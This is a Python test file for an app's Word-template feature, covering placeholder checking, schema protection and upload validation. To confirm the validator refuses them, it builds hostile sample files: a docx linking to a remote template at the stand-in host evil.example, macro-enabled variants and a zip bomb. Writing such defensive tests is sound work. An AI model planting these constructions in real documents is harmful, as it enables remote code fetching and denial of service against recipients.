"""Checking templates (issue 16, point 3 and the bad uploads): unknown placeholders are
reported with their text, place and a "did you mean"; a field a template uses cannot be
deleted, a rename keeps the template working; damaged, macro-enabled, externally linked
and oversized files are refused, and nothing is stored."""
from __future__ import annotations

import io
import zipfile

import pytest
import sqlalchemy as sa
from invoice_fixture import build, docx_with, invoice_docx, order_with_lines, texts

from cardbase.doc_templates import documents, storage
from cardbase.doc_templates.limits import MAX_UPLOAD_BYTES
from cardbase.doc_templates.package import check_docx
from cardbase.doc_templates.render import TemplateProblems
from cardbase.schema_engine.actor import SYSTEM
from cardbase.schema_engine.errors import InUse, NotFound, ValidationError
from cardbase.schema_engine.schema_service import SchemaService
from cardbase.schema_engine.store import RecordStore
from cardbase.schema_engine.template_models import DocTemplate, DocTemplateVersion


@pytest.fixture
def store(db):
    build(db)
    return RecordStore(db)


def _create(store, content, filename="invoice.docx", name="Invoice"):
    return storage.create_template(store, SYSTEM, "order", name=name, filename=filename, content=content)


def _stored(db) -> tuple[int, int]:
    with db.read() as conn:
        return (conn.execute(sa.select(sa.func.count()).select_from(DocTemplate)).scalar_one(),
                conn.execute(sa.select(sa.func.count()).select_from(DocTemplateVersion)).scalar_one())


def test_unknown_placeholders_are_reported_with_text_place_and_did_you_mean(store, db):
    content = docx_with(["Invoice {{ order.code }}", "To {{ client.compnay }} {{ order.titel|upper }}",
                         "{{ order.total|mony }}", "{% for l in order_lines %}{% endfor %}"],
                        table=[["{%tr for line in order_line %}"], ["{{ line.prodcut }}"], ["{%tr endfor %}"]])
    with pytest.raises(TemplateProblems) as info:
        _create(store, content)
    assert info.value.problems == [
        {"text": "{{ client.compnay }}", "place": "paragraph 2", "message": "'client' has no field or child list "
         "'compnay'", "suggestion": "company"},
        {"text": "{{ order.titel|upper }}", "place": "paragraph 2",
         "message": "'order' has no field or child list 'titel'", "suggestion": "title"},
        {"text": "{{ order.total|mony }}", "place": "paragraph 3", "message": "unknown filter 'mony'",
         "suggestion": "money"},
        {"text": "{% for l in order_lines %}", "place": "paragraph 4", "message": "unknown name 'order_lines'",
         "suggestion": "order_line"},
        {"text": "{{ line.prodcut }}", "place": "table 1, row 2, cell 1",
         "message": "'order_line' has no field or child list 'prodcut'", "suggestion": "product"},
    ]
    assert "paragraph 2: {{ client.compnay }}: 'client' has no field or child list 'compnay' (did you mean " \
           "'company'?)" in info.value.message
    assert _stored(db) == (0, 0)


def test_a_field_used_by_a_template_cannot_be_deleted(store, db):
    _create(store, invoice_docx())
    svc = SchemaService(db)
    with pytest.raises(InUse) as info:
        svc.remove_field(SYSTEM, "client", "phone")
    assert info.value.usages == ["document template 'Invoice' of Orders uses it"]
    with pytest.raises(InUse, match="document template 'Invoice' of Orders uses it"):
        svc.remove_field(SYSTEM, "order_line", "price")  # in the child table
    with pytest.raises(InUse, match="document template 'Invoice' belongs to it"):
        svc.delete_object(SYSTEM, "order")
    with pytest.raises(InUse, match="document template 'Invoice' of Orders uses it"):
        svc.delete_object(SYSTEM, "order_line")
    svc.remove_field(SYSTEM, "client", "rating")  # not used: goes
    assert not db.schema().object("client").has_field("rating")


def test_a_rename_keeps_the_template_working(store, db):
    order_id = order_with_lines(store, 3)
    template_id = _create(store, invoice_docx())["id"]
    svc = SchemaService(db)
    svc.update_field(SYSTEM, "client", "company", {"name": "firm", "label": "Firm"})
    svc.update_field(SYSTEM, "order_line", "product", {"name": "article"})
    svc.update_field(SYSTEM, "order", "total", {"name": "grand_total"})
    svc.update_object(SYSTEM, "order_line", {"name": "position"})  # the child list's name
    svc.update_object(SYSTEM, "order", {"name": "purchase"})  # the record's own name
    # a new field takes the old name: the template still means the renamed one
    svc.add_field(SYSTEM, "client", {"name": "company", "label": "Company (new)", "type": "string"})
    assert storage.get_template(store, SYSTEM, "purchase", template_id)["problems"] == []
    with store.session(SYSTEM) as s:
        paragraphs, rows = texts(documents.render_document(s, "purchase", template_id, order_id).content)
    assert paragraphs[1] == "To: Müller & Söhne <GmbH>, phone +49 30 1234567"
    assert paragraphs[3] == "Total: €143.00"
    assert rows[1] == ["Product 1", "€10.50", "1", "10.50"]
    with pytest.raises(InUse, match="document template 'Invoice' of Orders uses it"):
        SchemaService(db).remove_field(SYSTEM, "client", "firm")


def test_the_report_is_made_again_when_the_object_changes(store, db):
    template_id = _create(store, docx_with(["{{ order.margin.amount }}"]))["id"]
    assert storage.get_template(store, SYSTEM, "order", template_id)["problems"] == []
    SchemaService(db).update_field(SYSTEM, "order", "margin", {"type": "string"})
    assert storage.get_template(store, SYSTEM, "order", template_id)["problems"] == [
        {"text": "{{ order.margin.amount }}", "place": "paragraph 1",
         "message": "'margin' is a string field: it has no 'amount'", "suggestion": None}]
    order_id = order_with_lines(store, 1)
    with store.session(SYSTEM) as s, pytest.raises(TemplateProblems, match="paragraph 1"):
        documents.render_document(s, "order", template_id, order_id)


def _zip(files: dict[str, bytes | str], base: bytes | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        if base is not None:
            with zipfile.ZipFile(io.BytesIO(base)) as source:
                for info in source.infolist():
                    if info.filename not in files:
                        target.writestr(info, source.read(info.filename))
        for name, data in files.items():
            target.writestr(name, data)
    return out.getvalue()


def _with_macro_type(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        types = source.read("[Content_Types].xml").decode()
    types = types.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
    return _zip({"[Content_Types].xml": types}, content)


def _with_external_template(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        rels = source.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                        'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                        'TargetMode="External"/></Relationships>')
    return _zip({"word/_rels/document.xml.rels": rels}, content)


def _with_hyperlink(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        rels = source.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace("</Relationships>", '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/'
                        'officeDocument/2006/relationships/hyperlink" Target="https://example.com/" '
                        'TargetMode="External"/></Relationships>')
    return _zip({"word/_rels/document.xml.rels": rels}, content)


BAD_FILES = [
    ("corrupt", lambda ok: ok[: len(ok) // 2], "invoice.docx", "invoice.docx is damaged or not a Word document"),
    ("not a zip", lambda ok: b"%PDF-1.4 not a document", "invoice.docx", "is damaged or not a Word document"),
    ("zip without Word", lambda ok: _zip({"hello.txt": "hi"}), "invoice.docx", "is damaged or not a Word document"),
    ("docm name", lambda ok: ok, "invoice.docm", "invoice.docm is a macro-enabled document"),
    ("vba project", lambda ok: _zip({"word/vbaProject.bin": b"\x00VBA"}, ok), "invoice.docx", "contains macros"),
    ("macro content type", _with_macro_type, "invoice.docx", "contains macros"),
    ("external link", _with_external_template, "invoice.docx",
     "links to an outside file or address (attachedTemplate: http://evil.example/t.dotm)"),
    ("another kind of file", lambda ok: ok, "invoice.xlsx", "invoice.xlsx is not a Word document"),
]


@pytest.mark.parametrize("make, filename, message", [b[1:] for b in BAD_FILES], ids=[b[0] for b in BAD_FILES])
def test_bad_files_are_refused_and_nothing_is_stored(store, db, make, filename, message):
    with pytest.raises(ValidationError) as info:
        _create(store, make(invoice_docx()), filename=filename)
    assert message in info.value.errors["file"][0]
    assert _stored(db) == (0, 0)


def test_a_50_mb_upload_is_refused_with_the_limit(store, db):
    with pytest.raises(ValidationError) as info:
        _create(store, invoice_docx() + b"\x00" * (50 * 1024 * 1024))
    assert info.value.errors == {"file": [f"the file is 50.0 MB; a template may have at most "
                                          f"{MAX_UPLOAD_BYTES // (1024 * 1024)} MB"]}
    assert _stored(db) == (0, 0)


def test_a_zip_bomb_is_refused_before_unpacking():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("word/document.xml", b"\x00" * (70 * 1024 * 1024))
    with pytest.raises(ValidationError, match="unpacks to more than 60 MB"):
        check_docx(out.getvalue(), "bomb.docx")


def test_hyperlinks_are_kept(store):
    assert _create(store, _with_hyperlink(invoice_docx()))["problems"] == []


def test_a_template_of_a_deleted_object(store, db):
    svc = SchemaService(db)
    svc.create_object(SYSTEM, {"name": "memo", "label": "Memo", "label_plural": "Memos", "fields": [
        {"name": "text", "label": "Text", "type": "text"}]})
    template_id = _create_for(store, "memo")["id"]
    with pytest.raises(InUse, match="document template 'X' belongs to it"):
        svc.delete_object(SYSTEM, "memo")
    storage.delete_template(store, SYSTEM, "memo", template_id)
    svc.delete_object(SYSTEM, "memo")  # nothing uses it now
    with pytest.raises(NotFound, match="there is no object 'memo'"):
        storage.list_templates(store, SYSTEM, "memo", manage=True)
    with pytest.raises(NotFound, match="there is no object 'memo'"):
        _create_for(store, "memo")
    with pytest.raises(NotFound, match="there is no object 'memo'"):
        storage.get_template(store, SYSTEM, "memo", template_id)
    with store.session(SYSTEM) as s, pytest.raises(NotFound, match="there is no object 'memo'"):
        documents.render_document(s, "memo", template_id, 1)
    assert _stored(db) == (0, 0)


def _create_for(store, obj):
    return storage.create_template(store, SYSTEM, obj, name="X", filename="x.docx",
                                   content=docx_with(["{{ memo.text }}"]))
